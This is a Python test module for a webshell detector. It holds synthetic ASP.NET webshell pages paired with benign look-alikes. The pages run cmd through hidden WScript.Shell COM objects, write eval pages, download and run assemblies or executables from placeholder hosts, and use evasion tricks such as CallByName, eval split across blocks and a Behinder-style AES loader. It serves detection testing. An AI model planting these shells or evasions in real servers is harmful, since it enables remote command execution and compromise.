"""Rules and kept findings from the eleventh unseen collection, non-English sources and evasion work (issue
14, helper X13).

Shapes the own rules missed on first sight or found only by luck (BENCHMARKS.md, "Unseen shells, eleventh
collection"): JScript pages that reach WScript.Shell by CLSID or through a percent-encoded ProgID; a
JScript page that downloads a request-chosen URL into a request-chosen file through COM XMLHTTP and
ADODB.Stream; a handler that writes a whole server page held in a string literal; and a Godzilla fork's
obfuscated handler whose identifiers are escapes with invisible format characters between the letters;
and, from the fifth round, a page that writes request text whole into a server page of a fixed name and
a generated dropper that fetches a program from a fixed address and loads it as an assembly or starts it
behind a hidden window. The rules (``data/rules/hidden_com_objects.yar``, ``page_droppers.yar``,
``obfuscated_server_code.yar``, ``download_and_run.yar``) match those behaviours; the pages below reproduce them and the ordinary pages closest to them. A second
group keeps the evasions that only the behaviour analysis found on first sight (no YARA rule of ours
fired): Process.Start reached through VB's CallByName, a delegate, a DynamicObject and JScript's
Function.apply, the C# ``global::`` alias, JScript eval of \\u-escaped request text split across two
``<% %>`` blocks or hidden after a ``//`` ended by U+2029, a Behinder page whose directive comes last, and a
.soap (Remoting) service loading an assembly from its method parameter. All pages were written for these
tests: nothing is compiled or run, the commands and hosts are placeholders, and none is a copy of a real
shell.
"""

from __future__ import annotations

from .rule_tables import Page, rule_tables, sink_found_test

WSH_CLSID = "72C24DD5-D70A-438B-8A42-98424B88AFB8"
SHELL_APP_CLSID = "13709620-C279-11CE-A49E-444553540000"

# --- a shell COM object reached without its name ------------------------------------------------------
COM_HIDDEN: list[Page] = [
    (
        "jscript-getobject-clsid-exec",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\n'
        f'var w = GetObject("new:{{{WSH_CLSID}}}");\n'
        'var job = w.Exec("cmd /c " + Request.Form["q"]);\n'
        "Response.Write(job.StdOut.ReadAll());\n%>",
    ),
    (
        "jscript-unescaped-progid-run",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<script runat="server" language="JScript">\n'
        "function Page_Load() {\n"
        '  var n = unescape("%57%53%63%72%69%70%74%2E%53%68%65%6C%6C");\n'
        '  new ActiveXObject(n).Run("cmd /c " + Request.QueryString["t"], 0, true);\n}\n</script>',
    ),
    (
        "cs-handler-clsid-shellexecute",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System; using System.Web;\n'
        "public class H : IHttpHandler {\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        f'    Type t = Type.GetTypeFromCLSID(new Guid("{SHELL_APP_CLSID}"));\n'
        "    dynamic s = Activator.CreateInstance(t);\n"
        '    s.ShellExecute("cmd.exe", "/c " + c.Request["a"], "", "open", 0);\n  }\n'
        "  public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "jscript-charcode-progid-exec",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\n'
        "var n = String.fromCharCode(87, 83, 99, 114, 105, 112, 116, 46, 83, 104, 101, 108, 108);\n"
        'Response.Write(new ActiveXObject(n).Exec(Request.Item["z"]).StdOut.ReadAll());\n%>',
    ),
    (
        "jscript-reversed-progid-exec",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\n'
        'var n = "llehS.tpircSW".split("").reverse().join("");\n'
        'Response.Write(new ActiveXObject(n).Exec("cmd /c " + Request["y"]).StdOut.ReadAll());\n%>',
    ),
]

COM_ORDINARY: list[Page] = [
    (
        "shortcut-by-clsid-no-run",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Make_Click(object s, EventArgs e) {\n"
        f'  var t = Type.GetTypeFromCLSID(new Guid("{WSH_CLSID}"));\n'
        "  dynamic sh = Activator.CreateInstance(t);\n"
        '  dynamic lnk = sh.CreateShortcut(Server.MapPath("~/App_Data/report.lnk"));\n'
        '  lnk.TargetPath = Server.MapPath("~/Reports/monthly.pdf");\n  lnk.Save();\n}\n</script>',
    ),
    (
        "plain-progid-registry-read",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim sh As Object = CreateObject("WScript.Shell")\n'
        'Version.Text = sh.RegRead("HKLM\\SOFTWARE\\Example\\Version")\n%>',
    ),
    (
        "encoded-link-and-job-run",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  Help.NavigateUrl = "search.aspx?q=%57%69%6E%64%6F%77%73";\n'
        '  var job = new Example.ReportJob();\n  job.Run(Request.QueryString["month"]);\n}\n</script>',
    ),
]

# --- COM HTTP + ADODB.Stream saving the body to a file -----------------------------------------------
COM_DOWNLOAD: list[Page] = [
    (
        "jscript-serverxmlhttp-stream",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\n'
        'var h = new ActiveXObject("MSXML2.ServerXMLHTTP");\n'
        'h.open("GET", Request.Form["from"], false); h.send();\n'
        'var st = new ActiveXObject("ADODB.Stream");\n'
        "st.Type = 1; st.Open(); st.Write(h.responseBody);\n"
        'st.SaveToFile(Server.MapPath(Request.Form["to"]), 2); st.Close();\n%>',
    ),
    (
        "vb-winhttp-stream",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim h As Object = CreateObject("WinHttp.WinHttpRequest.5.1")\n'
        'h.Open("GET", Request.QueryString("u"), False) : h.Send()\n'
        'Dim st As Object = CreateObject("ADODB.Stream")\n'
        "st.Type = 1 : st.Open() : st.Write(h.ResponseBody)\n"
        'st.SaveToFile(Server.MapPath("~/App_Data/update.bin"), 2)\n%>',
    ),
]

DOWNLOAD_ORDINARY: list[Page] = [
    (
        "stream-export-no-http",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim st As Object = CreateObject("ADODB.Stream")\n'
        'st.Type = 2 : st.Open() : st.WriteText(Request.Form("notes"))\n'
        'st.SaveToFile(Server.MapPath("~/App_Data/notes.txt"), 2)\n%>',
    ),
    (
        "xmlhttp-feed-shown",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\n'
        'var h = new ActiveXObject("Microsoft.XMLHTTP");\n'
        'h.open("GET", "https://feeds.example.org/news.xml", false); h.send();\n'
        'Feed.Text = Server.HtmlEncode(h.responseText) + Request.QueryString["page"];\n%>',
    ),
    (
        "fixed-url-fixed-file-no-request",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<%\n'
        'var h = new ActiveXObject("Microsoft.XMLHTTP");\n'
        'h.open("GET", "https://updates.example.org/rates.csv", false); h.send();\n'
        'var st = new ActiveXObject("ADODB.Stream");\n'
        "st.Type = 1; st.Open(); st.Write(h.responseBody);\n"
        'st.SaveToFile(Server.MapPath("~/App_Data/rates.csv"), 2);\n%>',
    ),
]

# --- a page writing another server page held in a literal --------------------------------------------
DROPPERS: list[Page] = [
    (
        "cs-handler-writes-split-jscript-page",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.IO; using System.Web;\n'
        "public class H : IHttpHandler {\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        '    string p = "<%@ Page Language=\\"JScript\\"%" + "><%eval(Request.Item[\\"k\\"],\\"unsafe\\");%" + ">";\n'
        '    File.WriteAllText(c.Server.MapPath("~/upload/view.aspx"), p);\n  }\n'
        "  public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "vb-page-appends-cmd-page",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%\n'
        'Dim s As String = "<%@ Page Language=""C#""%" & "><% System.Diagnostics.Process.Start(""cmd.exe"", ""/c "" + Request[""c""]); %" & ">"\n'
        'System.IO.File.AppendAllText(Server.MapPath("cache.aspx"), s)\n%>',
    ),
    (
        "cs-streamwriter-handler-loader",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object o, EventArgs e) {\n"
        '  string h = "<%@ WebHandler Language=\\"C#\\" Class=\\"X\\" %>\\n public class X : System.Web.IHttpHandler { '
        "public void ProcessRequest(System.Web.HttpContext c) { System.Reflection.Assembly.Load(c.Request.BinaryRead(c.Request.TotalBytes)); } "
        'public bool IsReusable { get { return false; } } }";\n'
        '  using (var w = new System.IO.StreamWriter(System.IO.Path.Combine(Server.MapPath("."), "help.ashx"))) { w.Write(h); }\n'
        "}\n</script>",
    ),
]

DROPPER_ORDINARY: list[Page] = [
    (
        "cms-page-stub",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Create_Click(object s, EventArgs e) {\n"
        '  string slug = Request.Form["slug"];\n'
        '  string stub = "<%@ Page Language=\\"C#\\" Inherits=\\"Cms.ContentPage\\" MasterPageFile=\\"~/Site.master\\" %>";\n'
        '  System.IO.File.WriteAllText(Server.MapPath("~/pages/" + slug + ".aspx"), stub);\n}\n</script>',
    ),
    (
        "help-page-shows-directive",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  Sample.Text = Server.HtmlEncode("<%@ Page Language=\\"C#\\" %> then Request.QueryString[\\"id\\"] in code");\n'
        "}\n</script>",
    ),
    (
        "log-written-to-text-file",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  System.IO.File.AppendAllText(Server.MapPath("~/App_Data/visits.log"), Request.UserHostAddress + "\\n");\n'
        "}\n</script>",
    ),
]

# --- identifiers as escapes with invisible format characters / base64 split literals ------------------
OBFUSCATED: list[Page] = [
    (
        "cs-handler-format-char-escapes",
        ".ashx",
        '/*a*//*a*/<%@  Language="C#" Class="H" %>\n'
        "public class H : \\u0053\\u200cystem.\\u0057\\U0000200eeb.\\u0049\\ufeffHttpHandler {\n"
        "  public void \\u0050\\u200drocess\\u0052\\u200cequest(System.Web.HttpContext c) {\n"
        '    c.Response.Write("ok");\n  }\n'
        "  public bool IsReusable { get { return false; } }\n}",
    ),
    (
        "cs-page-base64-split-literals",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'string a = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("c%G%F%5%b%G%9%h%Z%A%=%=".Replace("%", "")));\n'
        'string b = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("T%G%9%h%Z%H%B%h%Z%2%U%=".Replace("%", "")));\n'
        'string k = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("Z%X%h%h%b%X%B%s%Z%S%1%r%Z%X%k%=".Replace("%", "")));\n'
        "Response.Write(a + b + k);\n%>",
    ),
]

OBFUSCATED_ORDINARY: list[Page] = [
    (
        "persian-text-zwnj-escapes",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  Title.Text = "\\u0645\\u06cc\\u200c\\u0631\\u0648\\u0645 \\u0628\\u0647\\u200c\\u0632\\u0648\\u062f\\u06cc";\n'
        '  Body.Text = Body.Text.Replace("\\u200c", " ").Replace("\\u200f", "");\n}\n</script>',
    ),
    (
        "url-encoded-query-strings",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  Link1.NavigateUrl = "find.aspx?q=%2F%3A%2F%2F%3F%3D";\n'
        '  Link2.NavigateUrl = "find.aspx?q=%41%42%43%44%45%46";\n'
        '  Link3.NavigateUrl = "find.aspx?f=%s%s%s%s%s%s%s%s%s";\n}\n</script>',
    ),
    (
        "escaped-ascii-identifiers-no-format-chars",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        'void \\u0050age_Load(object s, EventArgs e) { \\u0054itle.Text = "ok"; }\n</script>',
    ),
]

# --- request text written whole into a server page of a fixed name (round 5) --------------------------
PAGE_WRITERS: list[Page] = [
    (
        "cs-writealltext-request-into-aspx",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'System.IO.File.WriteAllText(Server.MapPath("note.aspx"), Request["t"]);\n'
        'Response.Write("saved");\n%>',
    ),
    (
        "vb-appendalltext-form-into-ashx",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        '  System.IO.File.AppendAllText(Server.MapPath("~/img/h.ashx"), Request.Form("c"))\n'
        "End Sub\n</script>",
    ),
    (
        "cs-handler-writeallbytes-binaryread-into-config",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="W" %>\n'
        "public class W : System.Web.IHttpHandler {\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    System.IO.File.WriteAllBytes(c.Server.MapPath("web.config"), c.Request.BinaryRead(c.Request.TotalBytes));\n'
        "  }\n  public bool IsReusable { get { return false; } }\n}",
    ),
]

PAGE_WRITER_ORDINARY: list[Page] = [
    (
        "notes-saved-to-text-file",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Save_Click(object s, EventArgs e) {\n"
        '  System.IO.File.WriteAllText(Server.MapPath("~/App_Data/notes.txt"), Request.Form["notes"]);\n'
        "}\n</script>",
    ),
    (
        "cms-stub-slug-in-name-only",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Create_Click(object s, EventArgs e) {\n"
        '  string stub = "<%@ Page Language=\\"C#\\" Inherits=\\"Cms.ContentPage\\" %>";\n'
        '  System.IO.File.WriteAllText(Server.MapPath("~/pages/" + Request.Form["slug"] + ".aspx"), stub);\n'
        "}\n</script>",
    ),
    (
        "settings-json-from-request",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Save_Click(object s, EventArgs e) {\n"
        '  System.IO.File.WriteAllText(Server.MapPath("~/App_Data/settings.json"), Request.Form["json"]);\n'
        '  Status.Text = "Default.aspx will show the new settings";\n'
        "}\n</script>",
    ),
]

# --- a program fetched from a fixed address and run (round 5) -----------------------------------------
DOWNLOAD_RUN: list[Page] = [
    (
        "cs-downloaddata-assembly-load",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  if (Request.Headers["X-K"] != "k0") return;\n'
        '  byte[] b = new System.Net.WebClient().DownloadData("https://stage.example.invalid/a.bin");\n'
        "  var a = System.Reflection.Assembly.Load(b);\n"
        "  a.EntryPoint.Invoke(null, new object[] { new string[0] });\n"
        "}\n</script>",
    ),
    (
        "cs-handler-downloadfile-hidden-start",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="D" %>\n'
        "public class D : System.Web.IHttpHandler {\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    string p = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "u.exe");\n'
        '    new System.Net.WebClient().DownloadFile("http://stage.example.invalid/u.exe", p);\n'
        "    var i = new System.Diagnostics.ProcessStartInfo(p);\n"
        "    i.CreateNoWindow = true; i.UseShellExecute = false;\n"
        "    System.Diagnostics.Process.Start(i);\n"
        "  }\n  public bool IsReusable { get { return false; } }\n}",
    ),
]

DOWNLOAD_RUN_ORDINARY: list[Page] = [
    (
        "rates-feed-downloaded-and-parsed",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  byte[] b = new System.Net.WebClient().DownloadData("https://rates.example.invalid/daily.xml");\n'
        "  var d = new System.Xml.XmlDocument(); d.LoadXml(System.Text.Encoding.UTF8.GetString(b));\n"
        '  Rate.Text = d.SelectSingleNode("//eur").InnerText;\n'
        "}\n</script>",
    ),
    (
        "report-downloaded-and-saved-only",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Fetch_Click(object s, EventArgs e) {\n"
        '  new System.Net.WebClient().DownloadFile("https://reports.example.invalid/q3.pdf", Server.MapPath("~/App_Data/q3.pdf"));\n'
        "}\n</script>",
    ),
    (
        "plugin-list-and-visible-viewer",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  new System.Net.WebClient().DownloadFile("https://updates.example.invalid/notes.txt", Server.MapPath("~/App_Data/notes.txt"));\n'
        '  Plugins.Text = string.Join(", ", System.Reflection.Assembly.GetExecutingAssembly().GetTypes().Length);\n'
        '  System.Diagnostics.Process.Start("notepad.exe", Server.MapPath("~/App_Data/notes.txt"));\n'
        "}\n</script>",
    ),
]

CASES = (
    ("EXT_WEBSHELL_COM_Shell_Hidden_Name", COM_HIDDEN, COM_ORDINARY),
    ("EXT_WEBSHELL_COM_Download_To_File", COM_DOWNLOAD, DOWNLOAD_ORDINARY),
    ("EXT_WEBSHELL_Page_Writes_Server_Page", DROPPERS, DROPPER_ORDINARY),
    ("EXT_WEBSHELL_Escaped_Identifiers_With_Format_Chars", OBFUSCATED, OBFUSCATED_ORDINARY),
    ("EXT_WEBSHELL_Request_Text_Written_To_Server_Page", PAGE_WRITERS, PAGE_WRITER_ORDINARY),
    ("EXT_WEBSHELL_Download_And_Run", DOWNLOAD_RUN, DOWNLOAD_RUN_ORDINARY),
)

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)


# --- evasions only the behaviour analysis found on first sight: kept found ----------------------------
BEHAVIOUR_ONLY: list[tuple[str, str, str, str]] = [
    (
        "vb-callbyname-start",
        ".aspx",
        "process",
        '<%@ Page Language="VB" %>\n<%\n'
        "Dim i As New System.Diagnostics.ProcessStartInfo()\n"
        'i.FileName = "cmd.exe" : i.Arguments = "/c " & Request.Form("w")\n'
        "i.UseShellExecute = False : i.RedirectStandardOutput = True\n"
        "Dim pr As New System.Diagnostics.Process() : pr.StartInfo = i\n"
        'CallByName(pr, "Start", CallType.Method)\n'
        "Response.Write(pr.StandardOutput.ReadToEnd())\n%>",
    ),
    (
        "vb-delegate-start",
        ".aspx",
        "process",
        '<%@ Page Language="VB" %>\n<%\n'
        "Dim i As New System.Diagnostics.ProcessStartInfo()\n"
        'i.FileName = "cmd.exe" : i.Arguments = "/c " & Request.QueryString("w")\n'
        "i.UseShellExecute = False : i.RedirectStandardOutput = True\n"
        "Dim pr As New System.Diagnostics.Process() : pr.StartInfo = i\n"
        "Dim go As Runner = AddressOf pr.Start\ngo.Invoke()\n"
        "Response.Write(pr.StandardOutput.ReadToEnd())\n%>\n"
        '<script runat="server">\nPublic Delegate Function Runner() As Boolean\n</script>',
    ),
    (
        "jscript-function-apply-start",
        ".aspx",
        "process",
        '<%@ Page Language="JScript" %>\n<%\n'
        "var i = new System.Diagnostics.ProcessStartInfo();\n"
        'i.FileName = "cmd.exe"; i.Arguments = "/c " + Request.Params["w"];\n'
        "i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
        "var pr = new System.Diagnostics.Process(); pr.StartInfo = i;\n"
        "pr.Start.apply(pr, []);\nResponse.Write(pr.StandardOutput.ReadToEnd());\n%>",
    ),
    (
        "cs-global-alias-start",
        ".aspx",
        "process",
        '<%@ Page Language="C#" %>\n<%\n'
        'var i = new global::System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Params.Get("w"));\n'
        "i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
        "Response.Write(global::System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());\n%>",
    ),
    (
        "jscript-eval-escaped-request-across-blocks",
        ".aspx",
        "eval",
        '<%@ Page Language="JScript" %>\n<%\n  var v = eval(""%>\n'
        '<%+"\\u0052\\u0065\\u0071\\u0075\\u0065\\u0073\\u0074.Form[\\"w\\"]")\n  eval(v, "unsafe");\n%>',
    ),
    (
        "jscript-eval-after-paragraph-separator",
        ".aspx",
        "eval",
        '<%@ Page Language="JScript" %>\n<%\n'
        '  var v = eval("//\\u2029\\u0052\\u0065\\u0071\\u0075\\u0065\\u0073\\u0074.Form[\\"w\\"]")\n'
        '  eval(v, "unsafe");\n%>',
    ),
    (
        "behinder-style-directive-last",
        ".aspx",
        "reflection-invoke",
        "<%\ntry {\n"
        'byte[] k = System.Text.Encoding.Default.GetBytes("0123456789abcdef");\n'
        "byte[] d = Request.BinaryRead(Request.TotalBytes);\n"
        "byte[] p = new System.Security.Cryptography.AesManaged().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length);\n"
        'var t = Type.GetType("System." + "Reflection." + "Assembly");\n'
        'var a = t.GetMethod("Lo" + "ad", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { p });\n'
        '((System.Reflection.Assembly)a).CreateInstance("Q").Equals(this);\n'
        '} catch { }\n%><% @language="c#" %>',
    ),
    (
        "soap-remoting-service-loader",
        ".soap",
        "reflection-load",
        '<%@ WebService Language="C#" Class="S" %>\nusing System; using System.Collections;\n'
        "public class S : MarshalByRefObject {\n"
        "  static Hashtable store = new Hashtable();\n"
        "  [System.Web.Services.WebMethod(EnableSession = true)]\n"
        "  public string Go(string v) {\n"
        "    byte[] d = Convert.FromBase64String(System.Web.HttpUtility.UrlDecode(v));\n"
        '    if (store["a"] == null) store["a"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly)'
        '.GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d });\n'
        '    return "";\n  }\n}',
    ),
]


test_behaviour_only_shape_stays_found = sink_found_test(BEHAVIOUR_ONLY)
